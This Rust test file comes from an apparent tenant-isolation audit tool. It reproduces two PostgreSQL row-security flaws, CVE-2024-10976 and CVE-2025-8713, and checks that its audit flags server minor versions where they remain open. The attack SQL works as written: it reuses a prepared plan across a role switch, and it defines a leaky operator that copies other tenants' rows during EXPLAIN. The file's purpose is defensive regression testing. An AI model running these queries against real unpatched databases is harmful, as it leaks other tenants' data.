//! Holes of the server itself, in row security, that a later minor version closed: the same attack on whatever
//! version there is. `scripts/versions 16.4 17.0 -- audit::minors` runs it where they are open.

use cupel_tenant::Severity;

use super::stage::Who::{A, Admin};
use super::stage::{CASE, Case, Outcome, Stage};

/// A hole that every schema has, however right it is, and the first minor version of each major one without it.
struct Hole {
    name: &'static str,
    closed: [i32; 3],
    schema: &'static str,
    case: Case,
}

const HOLES: &[Hole] = &[
    // A plan that was made as administration, and is used as the application's role.
    Hole {
        name: "CVE-2024-10976",
        closed: [150_009, 160_005, 170_001],
        schema: "{admin} GRANT {app} TO {adm};
            CREATE FUNCTION notes() RETURNS SETOF text LANGUAGE sql STABLE
              AS 'WITH n AS (SELECT note FROM items) SELECT note FROM n'",
        case: Case {
            attack: &[
                (Admin, "PREPARE notes AS SELECT * FROM notes()"),
                (Admin, "EXECUTE notes"),
                (Admin, "SET ROLE {app}; SET app.current_org_id = 'a'"),
                (Admin, "EXECUTE notes"),
            ],
            ..CASE
        },
    },
    // What the planner knows of a partition's rows, it tells an operator of the application's own.
    Hole {
        name: "CVE-2025-8713",
        closed: [150_014, 160_010, 170_006],
        schema: "CREATE SCHEMA s; GRANT ALL ON SCHEMA s TO {app};
            CREATE TABLE logs (org_id text NOT NULL, id int, note text, PRIMARY KEY (org_id, id))
              PARTITION BY RANGE (id); {isolate logs}
            CREATE TABLE logs_1 PARTITION OF logs FOR VALUES FROM (0) TO (1000); {isolate logs_1}
            INSERT INTO logs SELECT CASE i % 2 WHEN 0 THEN 'a' ELSE 'b' END, i,
              CASE i % 2 WHEN 0 THEN 'mine' ELSE 'theirs' END FROM generate_series(1, 200) i; ANALYZE logs",
        case: Case {
            attack: &[
                (
                    A,
                    "CREATE TABLE s.bag (note text);
                    CREATE FUNCTION s.leak(a text, b text) RETURNS bool LANGUAGE plpgsql COST 1 AS
                      $$ BEGIN INSERT INTO s.bag VALUES (a); RETURN false; END $$;
                    CREATE OPERATOR s.=== (FUNCTION = s.leak, LEFTARG = text, RIGHTARG = text, RESTRICT = eqsel)",
                ),
                (A, "EXPLAIN SELECT FROM logs WHERE note OPERATOR(s.===) 'x'"),
                (A, "SELECT DISTINCT note FROM s.bag"),
            ],
            ..CASE
        },
    },
];

#[tokio::test]
pub(super) async fn audit_of_a_minor_version_with_a_hole_in_row_security() -> Outcome<()> {
    let stage = Stage::start().await?;
    let version = stage.version().await?;
    let is_open =
        |it: &Hole| it.closed.iter().any(|it| version / 10_000 == it / 10_000 && version < *it);
    let findings = stage.audit(&[]).await?.findings;
    let old = findings.iter().any(|it| it.rule == "S7" && it.severity == Severity::Medium);
    assert_eq!(old, HOLES.iter().any(is_open), "{version}");
    for hole in HOLES {
        let stage = Stage::start().await?;
        stage.root(hole.schema).await?;
        assert_eq!(stage.attack(&hole.case).await?, is_open(hole), "{} on {version}", hole.name);
    }
    Ok(())
}
